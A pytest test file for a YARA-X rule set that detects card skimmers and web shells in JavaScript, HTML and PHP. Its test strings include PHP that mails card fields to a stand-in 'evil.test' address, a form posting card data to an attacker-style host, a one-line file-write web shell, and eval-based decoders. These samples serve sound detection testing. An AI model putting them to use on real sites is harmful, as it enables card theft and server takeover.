"""Tests of the yara-x rule layer: compilation guards, the rule catalog, scanning details, and the
annotated fixtures in ``fixtures/rules`` (one small file per case; the first line says which rule
IDs must match, ``expect: none`` for hard negatives)."""

from __future__ import annotations

import re
import threading
from pathlib import Path

import pytest
import yara_x

from skimguard.analyze import yara_rules
from skimguard.analyze.model import Language, Layer
from skimguard.analyze.yara_rules import (
    APPLICABLE_RULE_LANGUAGES,
    EXCERPT_CHARS,
    MAX_SCAN_BYTES,
    RuleCompileError,
    RuleScanTimeout,
    compile_rules,
    packaged_rule_sources,
    packaged_rules,
    rule_catalog,
    scan_rules,
)
from skimguard.errors import SkimguardError
from skimguard.models import Confidence, Severity

FIXTURES = Path(__file__).parent / "fixtures" / "rules"
ALL_IDS = {f"SG4{n:02d}" for n in (*range(1, 40), *range(51, 61))}
SERVER_IDS = {f"SG4{n}" for n in range(61, 80)}  # tested in test_server_rules.py
_LANGUAGE_BY_SUFFIX = {".js": Language.JS, ".html": Language.HTML, ".php": Language.PHP, ".txt": Language.TEXT}
_EXPECT = re.compile(r"expect:\s*(?P<ids>[^\n]*?)\s*(?:-->)?\s*$")

_META = """
    meta:
        id = "{rule_id}"
        severity = "{severity}"
        confidence = "medium"
        title = "Test rule"
        description = "A rule used by the tests. It matches a fixed word."
        references = ""
        false_positives = "None."
        language = "js"
"""


def _rule(name: str, pattern: str, *, rule_id: str = "SG499", severity: str = "low") -> str:
    meta = _META.format(rule_id=rule_id, severity=severity)
    return f"rule {name} {{{meta}    strings:\n        $a = {pattern}\n    condition:\n        $a\n}}\n"


def _expected(path: Path) -> set[str]:
    first_line = path.read_text(encoding="utf-8").splitlines()[0]
    match = _EXPECT.search(first_line)
    assert match, f"{path.name}: first line must be an 'expect:' annotation"
    ids = match.group("ids").split()
    return set() if ids == ["none"] else set(ids)


def _fixtures() -> list[Path]:
    return sorted(p for p in FIXTURES.iterdir() if p.suffix in _LANGUAGE_BY_SUFFIX)


# --- compilation -------------------------------------------------------------------------------


def test_packaged_rules_compile_and_cover_sg401_to_sg439_and_sg451_to_sg460() -> None:
    rules = packaged_rules()
    ids = [dict(rule.metadata)["id"] for rule in rules]
    assert len(ids) == 68
    assert set(ids) == ALL_IDS | SERVER_IDS
    assert sorted(packaged_rule_sources()) == [
        "skimmer_html.yar",
        "skimmer_js.yar",
        "skimmer_php.yar",
        "skimmer_server.yar",
    ]


def test_compile_accepts_a_valid_rule() -> None:
    rules = compile_rules({"ok.yar": _rule("ok", '"skimguard"')})
    results = yara_x.Scanner(rules).scan(b"-- skimguard --")
    assert [r.identifier for r in results.matching_rules] == ["ok"]


@pytest.mark.parametrize(
    "pattern",
    [
        "{ 61 }",  # one byte: no usable atom
        "/a[^b]*/",  # unbounded gap after a one-byte atom
        "/\\w+/",  # no literal at all
    ],
)
def test_compile_rejects_slow_patterns(pattern: str) -> None:
    with pytest.raises(RuleCompileError, match="slow pattern") as info:
        compile_rules({"slow.yar": _rule("slow", pattern)})
    assert isinstance(info.value, SkimguardError)
    assert "slow.yar" in str(info.value)


def test_compile_rejects_missing_meta() -> None:
    source = 'rule bare { strings: $a = "skimguard" condition: $a }'
    with pytest.raises(RuleCompileError, match="required metadata"):
        compile_rules({"bare.yar": source})


@pytest.mark.parametrize(
    ("rule_id", "severity"),
    [("SG501", "low"), ("SG4", "low"), ("SG499", "severe"), ("SG499", "HIGH")],
)
def test_compile_rejects_bad_meta_values(rule_id: str, severity: str) -> None:
    with pytest.raises(RuleCompileError, match="not valid"):
        compile_rules({"bad.yar": _rule("bad", '"skimguard"', rule_id=rule_id, severity=severity)})


def test_compile_rejects_duplicate_ids_across_files() -> None:
    sources = {"a.yar": _rule("one", '"alpha"'), "b.yar": _rule("two", '"bravo"')}
    with pytest.raises(RuleCompileError, match="SG499 is used by both one and two"):
        compile_rules(sources)


def test_compile_rejects_syntax_errors() -> None:
    with pytest.raises(RuleCompileError, match=r"broken\.yar"):
        compile_rules({"broken.yar": "rule broken { condition: }"})


# --- catalog -----------------------------------------------------------------------------------


def test_catalog_documents_every_rule_sorted_and_unique() -> None:
    catalog = rule_catalog()
    ids = [info.rule_id for info in catalog]
    assert ids == sorted(ALL_IDS | SERVER_IDS)
    for info in catalog:
        assert info.layer is Layer.RULE
        assert isinstance(info.severity, Severity)
        assert isinstance(info.confidence, Confidence)
        assert 0 < len(info.title) <= 80
        assert info.description.count(". ") >= 1, info.rule_id  # what, then why
        assert info.false_positives, info.rule_id
        assert all(ref.startswith("https://") for ref in info.references), info.rule_id


def test_meta_with_escaped_quotes_reads_as_text() -> None:
    source = _rule("quoted", '"skimguard"').replace(
        'description = "A rule used by the tests. It matches a fixed word."',
        'description = "A rule used by the tests. It matches \\"skimguard\\"."',
    )
    rules = compile_rules({"quoted.yar": source})
    (rule,) = list(rules)
    assert yara_rules._meta_of(rule.identifier, rule.metadata).description == (
        'A rule used by the tests. It matches "skimguard".'
    )


def test_rule_names_start_with_their_id() -> None:
    for rule in packaged_rules():
        assert rule.identifier.startswith(dict(rule.metadata)["id"] + "_"), rule.identifier


def test_every_rule_declares_its_language() -> None:
    languages = {dict(rule.metadata)["language"] for rule in packaged_rules()}
    assert languages == {"js", "html", "php", "any"}


def test_single_traits_are_not_high() -> None:
    severity = {info.rule_id: info.severity for info in rule_catalog() if info.rule_id not in SERVER_IDS}
    # card field names, sinks, encodings, gates: traits benign code shows too
    for rule_id in ("SG401", "SG402", "SG404", "SG406", "SG407", "SG408", "SG409", "SG410", "SG411", "SG429"):
        assert severity[rule_id] <= Severity.LOW, rule_id
    # obfuscation alone, rewired buttons, redirects, request logs, forged dates: at most medium
    for rule_id in ("SG451", "SG453", "SG454", "SG455", "SG456", "SG457", "SG460"):
        assert severity[rule_id] <= Severity.MEDIUM, rule_id
    # only combinations and kit skeletons are high
    assert {r for r, s in severity.items() if s >= Severity.HIGH} == {
        "SG418",
        "SG421",
        "SG423",
        "SG425",
        "SG426",
        "SG430",
        "SG432",
        "SG436",
        "SG452",
        "SG458",
        "SG459",
    }
    # self-decoding code makes a script suspicious, not convicted: benign code may be obfuscated too
    catalog = {info.rule_id: info for info in rule_catalog()}
    assert (catalog["SG452"].severity, catalog["SG452"].confidence) == (Severity.HIGH, Confidence.LOW)
    # the only critical rule: number and security code sent where no payment module sends them
    assert {r for r, s in severity.items() if s is Severity.CRITICAL} == {"SG458"}


# --- fixtures ----------------------------------------------------------------------------------


@pytest.mark.parametrize("path", _fixtures(), ids=lambda p: p.name)
def test_fixture_matches_exactly_the_annotated_rules(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    hits = scan_rules(text, language=_LANGUAGE_BY_SUFFIX[path.suffix])
    assert {hit.rule_id for hit in hits} == _expected(path)
    assert len(hits) == len({hit.rule_id for hit in hits})  # one hit per rule


def test_every_rule_has_a_positive_fixture() -> None:
    covered = set().union(*(_expected(path) for path in _fixtures()))
    assert covered - SERVER_IDS == ALL_IDS  # the server rules have their own fixtures


def test_hard_negatives_raise_nothing_above_low() -> None:
    negatives = [p for p in _fixtures() if p.name.startswith("ok_")]
    assert len(negatives) == 15
    for path in negatives:
        hits = scan_rules(path.read_text(encoding="utf-8"), language=_LANGUAGE_BY_SUFFIX[path.suffix])
        assert all(hit.severity <= Severity.LOW for hit in hits), path.name


# --- scanning details --------------------------------------------------------------------------


def test_hit_fields_come_from_the_rule_meta() -> None:
    text = "<?php\n$x = 1;\nmail('drop@evil.test', 's', $_POST['cc_number']);\n"
    hits = {hit.rule_id: hit for hit in scan_rules(text, language=Language.PHP)}
    assert sorted(hits) == ["SG429", "SG430"]
    mail = hits["SG430"]
    assert mail.layer is Layer.RULE
    assert mail.severity is Severity.HIGH
    assert mail.confidence is Confidence.MEDIUM
    assert mail.title == "PHP e-mails card data or sends it to a chat bot"
    assert mail.explanation == (
        "PHP code that reads card fields also calls mail() or wp_mail(), or talks to a Telegram bot or Discord webhook."
    )
    assert (mail.line, mail.column) == (3, 1)  # the match starts at the newline; leading space is skipped
    assert mail.normalized is False


def test_language_filter() -> None:
    php = "$n = $_POST['cc_number'];"
    assert scan_rules(php, language=Language.JS) == []
    assert [hit.rule_id for hit in scan_rules(php, language=Language.PHP)] == ["SG429"]
    assert [hit.rule_id for hit in scan_rules(php, language=Language.TEXT)] == ["SG429"]
    form = '<form action="https://collect.evil.test/p"><input name="cardnumber"><input name="cvc"></form>'
    assert [hit.rule_id for hit in scan_rules(form, language=Language.HTML)] == ["SG401", "SG415"]
    assert [hit.rule_id for hit in scan_rules(form, language=Language.JS)] == ["SG401"]
    assert APPLICABLE_RULE_LANGUAGES[Language.HTML] == frozenset({"html", "js", "any"})


def test_line_and_column_count_characters_of_non_ascii_text() -> None:
    text = "// カード番号の入力\nvar 名前 = 'é';\n  ünïcødé; var w = atob('Y2hlY2tvdXQ=');\n"
    (hit,) = scan_rules(text, language=Language.JS)
    assert hit.rule_id == "SG403"
    assert (hit.line, hit.column) == (3, 25)
    assert text.splitlines()[2][hit.column - 1 :].startswith("'Y2hlY2tvdXQ='")


def test_excerpt_shows_the_match_with_context_on_its_line() -> None:
    text = "first line\nvar a = 1; var w = atob('Y2hlY2tvdXQ='); var b = 2;\nlast line"
    (hit,) = scan_rules(text, language=Language.JS)
    assert hit.excerpt == "var a = 1; var w = atob('Y2hlY2tvdXQ='); var b = 2;"


def test_excerpt_is_bounded() -> None:
    padding = "x" * 5000
    text = f"{padding} '/media/{'a' * 140}/x.php' {padding}"
    (hit,) = scan_rules(text, language=Language.JS)
    assert hit.rule_id == "SG405"
    assert len(hit.excerpt) <= EXCERPT_CHARS
    assert "'/media/" in hit.excerpt


def test_only_the_first_two_mebibytes_are_scanned() -> None:
    needle = "var w = atob('Y2hlY2tvdXQ=');"
    assert [h.rule_id for h in scan_rules(" " * 1000 + needle, language=Language.JS)] == ["SG403"]
    assert scan_rules(" " * MAX_SCAN_BYTES + needle, language=Language.JS) == []


def test_hostile_input_scans_quickly() -> None:
    # many near-misses for the proximity rules: card fields far from their security codes
    chunk = " cvv " * 300 + " " * 6000 + 'cc_number x.open("POST" ' * 2000 + " " * 3000
    text = (chunk * 40)[:MAX_SCAN_BYTES]
    hits = scan_rules(text, language=Language.JS)
    assert [hit.rule_id for hit in hits] == ["SG401"]


def test_timeout_becomes_a_typed_error(monkeypatch: pytest.MonkeyPatch) -> None:
    class SlowScanner:
        def __init__(self, rules: yara_x.Rules) -> None:
            self.timeout = 0

        def set_timeout(self, seconds: int) -> None:
            self.timeout = seconds

        def max_matches_per_pattern(self, matches: int) -> None:
            pass

        def scan(self, data: bytes) -> yara_x.ScanResults:
            assert self.timeout == yara_rules.SCAN_TIMEOUT_SECONDS
            raise yara_x.TimeoutError("timeout")

    monkeypatch.setattr(yara_x, "Scanner", SlowScanner)
    monkeypatch.setattr(yara_rules, "_local", threading.local())  # forget the scanners built so far
    with pytest.raises(RuleScanTimeout, match="timed out") as info:
        scan_rules("anything", language=Language.JS)
    assert isinstance(info.value, SkimguardError)


def test_lone_surrogates_do_not_break_scanning() -> None:
    text = "\udcff var w = atob('Y2hlY2tvdXQ=');"
    (hit,) = scan_rules(text, language=Language.JS)
    assert (hit.rule_id, hit.line, hit.column) == ("SG403", 1, 16)


# --- obfuscation, checkout and server-side rules -------------------------------------------------


def _ids(text: str, language: Language = Language.JS) -> list[str]:
    return [hit.rule_id for hit in scan_rules(text, language=language)]


def test_getter_named_like_mail_is_not_mail() -> None:
    # getCustomerEmail( ends in "mail(" but is no e-mail: SG430 must not fire on gateway code
    text = "<?php $a = $o->getCustomerEmail(); $n = $p->getCcNumber(); $c = $p->getCcCid();"
    assert _ids(text, Language.PHP) == ["SG429"]
    assert _ids(text.replace("$a = $o->getCustomerEmail();", "mail('x@evil.test', 's', $n);"), Language.PHP) == [
        "SG429",
        "SG430",
        "SG458",
    ]


def test_decoder_must_be_close_to_the_code_it_runs() -> None:
    decoder = "var r='';for(var j=0;j<t.length;j++){r+=String.fromCharCode(t.charCodeAt(j)-3);}"
    assert _ids(decoder + "eval(r);") == ["SG452"]
    assert _ids(decoder + " " * 1600 + "eval(r);") == []


def test_obfuscated_card_code_needs_a_decoder_and_a_card_trait() -> None:
    fixture = (FIXTURES / "sg453_obfuscated_card_code.js").read_text(encoding="utf-8")
    without_card = fixture.replace("cc_number", "first").replace("cvv", "second").replace("exp_month", "third")
    assert _ids(without_card) == ["SG451"]
    assert _ids("var record = { cc_number: a, cvv: b };") == ["SG401"]


def test_card_theft_needs_number_and_security_code_near_the_drop() -> None:
    drop = "mail('x@evil.test', 's', $m);"
    number_only = "<?php $m = $_POST['cc_number'];" + drop
    assert "SG458" not in _ids(number_only, Language.PHP)
    both = "<?php $m = $_POST['cc_number'] . $_POST['cvv'];"
    assert "SG458" in _ids(both + drop, Language.PHP)
    assert "SG458" not in _ids(both + " " * 3100 + drop, Language.PHP)


def test_request_log_only_in_the_web_root() -> None:
    inside = "<?php file_put_contents('r.txt', serialize($_POST), FILE_APPEND);"
    outside = "<?php file_put_contents('/var/log/r.txt', serialize($_POST), FILE_APPEND);"
    assert _ids(inside, Language.PHP) == ["SG433", "SG457"]
    assert _ids(outside, Language.PHP) == ["SG433"]


def test_decoder_rules_scan_hostile_input_quickly() -> None:
    chunk = "x[i]=s.charAt(i);eval(a);r+=String.fromCharCode(t.charCodeAt(j)-3);" + " " * 1700
    text = (chunk * 2000)[:MAX_SCAN_BYTES]
    hits = scan_rules(text, language=Language.JS)
    assert [hit.rule_id for hit in hits] == ["SG452"]


# --- per-language rule sets and scanner reuse ----------------------------------------------------


def test_each_language_has_a_rule_set_of_exactly_its_rules() -> None:
    languages = {rule.identifier: dict(rule.metadata)["language"] for rule in packaged_rules()}
    sizes = {}
    for language, applicable in APPLICABLE_RULE_LANGUAGES.items():
        names = {rule.identifier for rule in yara_rules.packaged_rule_set(language)}
        assert names == {name for name, lang in languages.items() if lang in applicable}, language
        sizes[language] = len(names)
    assert sizes == {Language.JS: 39, Language.HTML: 42, Language.PHP: 38, Language.TEXT: 68}
    assert yara_rules.packaged_rule_set(Language.TEXT) is packaged_rules()  # every rule: the whole set


@pytest.mark.parametrize("path", _fixtures(), ids=lambda p: p.name)
def test_a_language_set_finds_what_the_whole_set_finds_for_that_language(path: Path) -> None:
    language = _LANGUAGE_BY_SUFFIX[path.suffix]
    data = path.read_bytes()
    applicable = APPLICABLE_RULE_LANGUAGES[language]
    whole = {
        r.identifier for r in packaged_rules().scan(data).matching_rules if dict(r.metadata)["language"] in applicable
    }
    assert {r.identifier for r in yara_rules.packaged_rule_set(language).scan(data).matching_rules} == whole


def test_rule_sets_of_test_sources_and_a_bad_cut() -> None:
    sources = {
        "a.yar": "// header\n" + _rule("js_one", '"alpha"', rule_id="SG497"),
        "b.yar": _rule("php_one", '"bravo"', rule_id="SG498").replace('language = "js"', 'language = "php"'),
    }
    sets = yara_rules.compile_rule_sets(sources)
    assert {lang: sorted(r.identifier for r in rules) for lang, rules in sets.items()} == {
        Language.JS: ["js_one"],
        Language.HTML: ["js_one"],
        Language.PHP: ["php_one"],
        Language.TEXT: ["js_one", "php_one"],
    }
    # "rule x" at the start of a comment line would cut a rule in two: refused, not a lost rule
    commented = sources["a.yar"].replace("    strings:", "/*\nrule php_one is not here\n*/\n    strings:")
    with pytest.raises(RuleCompileError):
        yara_rules.compile_rule_sets({"a.yar": commented, "b.yar": sources["b.yar"]})


def test_a_thread_reuses_its_scanner_per_rule_set() -> None:
    first = yara_rules._scanner(yara_rules.packaged_rule_set(Language.PHP))
    assert yara_rules._scanner(yara_rules.packaged_rule_set(Language.PHP)) is first
    assert yara_rules._scanner(yara_rules.packaged_rule_set(Language.JS)) is not first
    other: list[bool] = []  # a scanner must not leave its thread (yara-x refuses to drop it elsewhere)

    def in_a_thread() -> None:
        other.append(yara_rules._scanner(yara_rules.packaged_rule_set(Language.PHP)) is first)

    thread = threading.Thread(target=in_a_thread)
    thread.start()
    thread.join()
    assert other == [False]
    # a scanner used again gives the same hits as a fresh one
    text = "<?php\n$x = 1;\nmail('drop@evil.test', 's', $_POST['cc_number']);\n"
    assert scan_rules(text, language=Language.PHP) == scan_rules(text, language=Language.PHP)
    assert [h.rule_id for h in scan_rules(text, language=Language.PHP)] == ["SG429", "SG430"]


# --- atom steering (skimmer_server.yar: superglobals spelled [$\xff][_\xff]POST) ----------------

_STEERED = "[$\\xff][_\\xff]"


def _all_fixture_texts() -> list[bytes]:
    return [p.read_text(encoding="utf-8").encode("utf-8") for p in sorted(FIXTURES.rglob("*")) if p.is_file()]


def test_steered_superglobals_match_exactly_what_the_plain_spelling_matches() -> None:
    sources = packaged_rule_sources()
    patterns = [line for text in sources.values() for line in text.splitlines() if line.lstrip().startswith("$")]
    assert sum(_STEERED in line for line in patterns) == 16
    plain = compile_rules({name: text.replace(_STEERED, "\\$_") for name, text in sources.items()})
    texts = _all_fixture_texts()
    assert len(texts) == 98
    for data in texts:
        assert _every_match(packaged_rules().scan(data)) == _every_match(plain.scan(data))


def _every_match(results: yara_x.ScanResults) -> list[tuple[str, str, int, int]]:
    return [
        (rule.identifier, pattern.identifier, match.offset, match.length)
        for rule in results.matching_rules
        for pattern in rule.patterns
        for match in pattern.matches
    ]


def test_the_steering_byte_never_reaches_the_scanner() -> None:
    # 0xFF is never part of UTF-8: a "ÿ" (U+00FF) where the "$" should be is not a superglobal
    shell = "<?php fwrite(fopen($_GET['f'], 'w'), $_POST['c']);"
    assert "SG470" in {hit.rule_id for hit in scan_rules(shell, language=Language.PHP)}
    assert "SG470" not in {hit.rule_id for hit in scan_rules(shell.replace("$_", "\u00ff_"), language=Language.PHP)}
